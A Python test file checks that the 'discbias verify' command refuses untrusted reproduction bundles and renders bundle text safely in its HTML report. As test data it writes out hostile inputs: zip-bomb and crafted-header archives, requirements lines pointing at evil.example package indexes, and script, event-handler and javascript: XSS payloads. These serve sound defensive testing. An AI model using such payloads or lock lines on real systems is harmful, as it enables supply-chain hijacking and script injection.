"""A bundle from someone else (issue 24): `discbias verify` refuses what it cannot trust, in one line,
within bounded memory, and its report shows bundle text as text (no script, no handler, no URL)."""

from __future__ import annotations

import hashlib
import json
import os
import re
import struct
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from discbias.reproduce.bundle import FORMAT, LOCK, MANIFEST, META, BundleError, check_lock, read_bundle


def write_bundle(path: Path, members: dict[str, bytes], *, manifest: bool = True, extra: list | None = None) -> Path:
    """A bundle zip with ``members`` (and a correct manifest unless ``manifest=False``); ``extra``
    appends further (name, bytes) members after the manifest, e.g. a duplicate name."""
    files = {META: json.dumps({"format": FORMAT, "study_id": "s", "title": "t"}).encode(),
             "values.json": b"{}", LOCK: b"numpy==2.1.0\n", "results/claims.csv": b"claim_id,verdict\nc1,reproduced\n"}
    files.update(members)
    with zipfile.ZipFile(path, "w") as z:
        for n, b in files.items():
            z.writestr(n, b)
        if manifest:
            z.writestr(MANIFEST, "".join(f"{hashlib.sha256(b).hexdigest()}  {n}\n" for n, b in files.items()))
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about the duplicate name we mean to write
            for n, b in extra or []:
                z.writestr(n, b)
    return path


def test_a_fifo_and_a_device_are_refused_before_they_are_opened(sandbox):
    fifo = sandbox.root / "bundle.zip"
    os.mkfifo(fifo)
    run = sandbox.cli("verify", fifo, timeout=30)  # opening a FIFO would block until the timeout
    sandbox.assert_refused(run, str(fifo), "FIFO")
    run = sandbox.cli("verify", "/dev/zero", timeout=30)  # reading /dev/zero never ends
    sandbox.assert_refused(run, "/dev/zero", "device")


def test_duplicate_member_names_are_refused(sandbox):
    z = write_bundle(sandbox.root / "b.zip", {}, extra=[("results/claims.csv", b"claim_id,verdict\nc1,other\n")])
    run = sandbox.cli("verify", z)
    sandbox.assert_refused(run, "results/claims.csv", "occurs twice")


def _set_declared_size(path: Path, member: str, size: int) -> None:
    """Rewrite the uncompressed size a member declares in the central directory (a crafted header)."""
    data = bytearray(path.read_bytes())
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack_from("<H", data, pos + 28)[0]
        name = bytes(data[pos + 46:pos + 46 + name_len]).decode()
        if name == member:
            struct.pack_into("<I", data, pos + 24, size)
        pos = data.find(b"PK\x01\x02", pos + 4)
    path.write_bytes(bytes(data))


def test_a_member_declaring_gigabytes_is_refused_before_reading(sandbox):
    z = write_bundle(sandbox.root / "b.zip", {"report/paper.pdf": b"%PDF small"})
    _set_declared_size(z, "report/paper.pdf", 3 * 1024 ** 3)  # 3 GiB declared; the cap is 3 GiB of address space
    run = sandbox.cli("verify", z)
    sandbox.assert_refused(run, "report/paper.pdf", "declares")


def test_a_member_inflating_past_its_declared_size_is_stopped(tmp_path, capped):
    """Real size checked while streaming: a member that inflates to 300 MiB while declaring 1,000 bytes
    is refused, within 200 MiB of address space (reading it whole would need 300 MiB)."""
    z = write_bundle(tmp_path / "b.zip", {})
    with zipfile.ZipFile(z, "a", compression=zipfile.ZIP_DEFLATED) as zf, zf.open("report/big.bin", "w") as f:
        block = b"\0" * (1 << 20)
        for _ in range(300):
            f.write(block)
    _set_declared_size(z, "report/big.bin", 1000)
    assert z.stat().st_size < 2_000_000
    out = capped(read_bundle, z, budget=200 * 1024 ** 2)
    assert out is not None and out[0] == "BundleError", out
    assert re.search(r"report/big.bin is larger than 1,000 bytes|not a readable zip|report/big.bin", out[1]), out


def test_a_zip_bomb_is_refused_by_the_total_limit(tmp_path, capped):
    import discbias.safeio as safeio
    from discbias.safeio import read_zip

    z = write_bundle(tmp_path / "b.zip", {f"report/{i}.bin": b"\0" * 300_000 for i in range(5)})
    out = capped(lambda: read_zip(z, what="bundle", max_total=1_000_000), budget=64 * 1024 ** 2)
    assert out is not None and out[0] == "UnsafeInputError" and re.search("declare .* bytes in all", out[1]), out
    out = capped(lambda: read_zip(z, what="bundle", max_member=100_000), budget=64 * 1024 ** 2)
    assert out is not None and out[0] == "UnsafeInputError" and "declares 300,000 bytes" in out[1], out
    assert safeio.MAX_MEMBER_BYTES <= 1024 ** 3 and safeio.MAX_TOTAL_BYTES <= 4 * 1024 ** 3


@pytest.mark.parametrize("line", [
    "--index-url http://evil.example/simple",
    "--extra-index-url http://evil.example/simple",
    "-e git+https://evil.example/pkg.git#egg=pkg",
    "pkg @ https://evil.example/pkg.whl",
    "./local/folder",
    "-r other.txt",
    "numpy>=1.0",
    "numpy==2.1.0; python_version > '3'",
])
def test_an_unsafe_lock_line_is_refused(sandbox, line):
    z = write_bundle(sandbox.root / "b.zip", {LOCK: f"# lock\nnumpy==2.1.0\n{line}\n".encode()})
    run = sandbox.cli("verify", z) if line.startswith("--index-url") else None
    if run is not None:  # one end-to-end run; the rest through the same function
        sandbox.assert_refused(run, LOCK, "line 3")
    with pytest.raises(BundleError, match="line 3 is not a pinned"):
        read_bundle(z)


def test_the_lock_bundle_writes_is_accepted():
    from discbias.reproduce.bundle import environment_lock

    check_lock(environment_lock("abc").encode())
    check_lock(b"torch==2.13.0+cpu --hash=sha256:" + b"a" * 64 + b"\n--extra-index-url https://download.pytorch.org/whl/cpu\n")


@pytest.mark.parametrize("member,content,problem", [
    ("values.json", b"{not json", "values.json is not valid UTF-8 JSON"),
    ("values.json", b"[" * 200_000 + b"]" * 200_000, "values.json is not valid UTF-8 JSON"),
    ("values.json", b"[1, 2]", "values.json is not a JSON object"),
    ("values.json", b'{"a": ' * 500 + b"1" + b"}" * 500, "nested more than 64 levels"),
    (META, b"[]", f"{META} is not a JSON object"),
    (META, b"\xff\xfe", f"{META} is not valid UTF-8 JSON"),
    ("results/claims.csv", b"", "results/claims.csv is not a readable CSV"),
    ("results/claims.csv", b"claim_id,verdict\n\xff\xfe,x\n", "results/claims.csv is not a readable CSV"),
    ("results/claims.csv", b"a,b\n1,2\n", "claims.csv has no claim_id and verdict"),
    ("results/models.csv", b'a,b\n"unterminated,2\n', "results/models.csv is not a readable CSV"),
    ("results/models.csv", b"a,b\n1,2\n3,4,5\n", "results/models.csv is not a readable CSV"),
    (LOCK, b"\xff\xfe", "is not UTF-8"),
])
def test_a_malformed_member_is_one_line_naming_it(tmp_path, member, content, problem):
    z = write_bundle(tmp_path / "b.zip", {member: content})
    with pytest.raises(BundleError, match=problem.replace(".", r"\.")):
        read_bundle(z)


def test_a_malformed_member_through_the_cli(sandbox):
    z = write_bundle(sandbox.root / "b.zip", {"results/claims.csv": b"claim_id,verdict\n\xff\xfe,x\n"})
    sandbox.assert_refused(sandbox.cli("verify", z), "results/claims.csv")


# ------------------------------------------------------------------------------ the report's HTML
class _Scan(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.handlers, self.urls, self.values = [], [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.values += [v or "" for _, v in attrs]
        for k, v in attrs:
            if k.lower().startswith("on"):
                self.handlers.append((tag, k))
            if k.lower() in ("href", "src", "srcset", "action", "formaction", "poster", "data") and v and (
                    ":" in v.split("/")[0] or v.startswith("//")):
                self.urls.append((tag, k, v))


HOSTILE = ['<script>alert(1)</script>', '<img src=x onerror="alert(2)">', "[click](https://evil.example/)",
           "![x](/etc/passwd)", "https://evil.example/bare", "www.evil.example", "`x` | <a href='javascript:1'>",
           "<svg onload=alert(3)>", "mail@evil.example"]


def test_the_verify_report_shows_bundle_text_as_text(tmp_path):
    from discbias.reproduce.verify import Tolerances, VerifyResult, write_report

    evil = " ".join(HOSTILE)
    info = dict(bundle=str(tmp_path / "b<script>.zip"), build="build", study_id=evil, title=evil, bundle_commit=evil,
                bundle_dirty=False, bundle_created=evil, templates_bundle=evil, templates_rebuild=None,
                rebuild_commit="abc", rebuild_dirty=False)
    frame = pd.DataFrame({"table": HOSTILE, "key": HOSTILE, "notes": HOSTILE, "compared": 1, "matched": 0,
                          "differing": 1, "missing": 0, "extra": 0})
    result = VerifyResult(tables=frame, differences=frame.assign(column=HOSTILE), verdicts=pd.DataFrame(
        {"claim_id": HOSTILE, "bundle": HOSTILE, "rebuild": HOSTILE}), environment=pd.DataFrame({"name": HOSTILE}),
        info=info)
    write_report(result, Tolerances(), tmp_path / "out")
    html = (tmp_path / "out" / "report.html").read_text()
    scan = _Scan()
    scan.feed(html)
    assert "script" not in scan.tags and "img" not in scan.tags and "svg" not in scan.tags
    assert scan.handlers == [] and scan.urls == []
    assert "a" not in scan.tags  # no link at all came from the bundle
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, as text
    # only the elements the report's own Markdown makes: nothing from the bundle adds one
    assert set(scan.tags) <= {"html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "p", "ul", "li",
                              "table", "thead", "tbody", "tr", "th", "td", "code", "strong", "em", "hr", "br"}, \
        set(scan.tags)
    assert not [v for v in scan.values if "javascript:" in v.lower() or "url(" in v.lower()]


def test_a_table_of_types_discbias_never_writes_is_one_line(tmp_path):
    """Claim ids that are numbers cannot be matched with the rebuild's: a BundleError naming the table."""
    from discbias.reproduce.verify import verify_build

    build = tmp_path / "build"
    (build / "results").mkdir(parents=True)
    (build / "results" / "claims.csv").write_text("claim_id,verdict\nc1,reproduced\n")
    (build / "values.json").write_text("{}")
    z = write_bundle(tmp_path / "b.zip", {"results/claims.csv": b"claim_id,verdict\n1,2\n"})
    with pytest.raises(BundleError, match="results/claims.csv cannot be compared"):
        verify_build(read_bundle(z), build)
